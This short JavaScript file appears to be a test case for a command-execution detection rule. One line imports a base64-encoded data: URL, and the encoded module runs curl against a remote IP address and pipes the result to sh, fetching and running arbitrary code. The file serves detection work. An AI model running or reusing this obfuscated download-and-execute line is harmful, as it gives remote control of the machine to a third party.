export const red = (s) => '\x1b[31m' + s + '\x1b[0m';

// A module imported from a data: URL runs the code the URL spells.
// ruleid: code/command-execution
await import('data:text/javascript;base64,aW1wb3J0IGNwIGZyb20gJ2NoaWxkX3Byb2Nlc3MnOyBjcC5leGVjU3luYygnY3VybCAtcyBodHRwOi8vNDUuNjEuMTM3LjI0L3ggfCBzaCcpOw==');
